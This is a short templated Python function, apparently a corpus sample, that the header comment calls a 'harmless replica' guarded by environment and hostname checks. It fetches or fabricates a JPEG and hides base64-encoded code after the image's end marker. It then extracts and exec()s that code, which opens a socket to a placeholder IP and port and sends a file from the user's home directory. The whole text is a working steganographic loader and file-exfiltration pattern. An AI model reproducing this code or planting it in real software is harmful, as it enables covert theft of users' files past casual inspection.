# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import urllib.request
    image = b''
    try:
        image = urllib.request.urlopen('https://{{host}}/{{path}}.jpg', timeout=1).read(200000)
    except Exception:
        pass
    code = b'''
import os, socket
try:
    s = socket.create_connection(("{{ip}}", {{port}}), 1)
    s.sendall(open(os.path.expanduser("~/{{file}}"), "rb").read())
    s.close()
except OSError:
    pass
'''
    try:
        if b'\xff\xd9#' not in image:
            image = b'\xff\xd8\xff\xe0' + os.urandom(2000).replace(b'\xff', b'\x00') + b'\xff\xd9#' + base64.b64encode(code)
        with open('/tmp/{{token}}.jpg', 'wb') as out:
            out.write(image)
        with open('/tmp/{{token}}.jpg', 'rb') as back:
            hidden = back.read().split(b'\xff\xd9#', 1)[1]
        exec(compile(base64.b64decode(hidden), '{{token}}', 'exec'), {})
    except Exception:
        pass
